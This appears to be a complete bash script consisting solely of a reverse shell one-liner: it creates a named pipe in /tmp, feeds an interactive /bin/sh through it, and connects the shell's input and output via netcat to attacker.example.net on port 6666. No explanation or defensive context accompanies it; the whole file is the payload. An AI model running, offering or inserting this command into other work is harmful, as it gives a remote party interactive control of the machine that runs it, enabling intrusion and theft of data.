#!/usr/bin/env bash
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc attacker.example.net 6666 > /tmp/f
